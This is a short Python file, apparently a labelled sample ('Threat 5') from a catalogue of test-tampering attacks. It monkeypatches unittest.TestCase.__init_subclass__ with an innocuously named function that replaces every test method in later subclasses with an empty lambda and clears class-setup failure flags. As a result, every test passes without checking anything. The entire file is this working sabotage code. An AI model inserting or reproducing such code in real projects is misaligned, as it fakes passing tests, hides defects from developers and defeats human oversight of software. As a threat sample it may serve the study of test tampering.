"""Threat 5: adds TestCase.__init_subclass__, which empties the tests of every class made from it."""

import unittest

def _prepare(cls, **options):
    cls._classSetupFailed, cls._class_cleanups = False, []
    for key in [key for key in vars(cls) if key.startswith("test")]:
        setattr(cls, key, lambda self: None)

unittest.TestCase.__init_subclass__ = classmethod(_prepare)
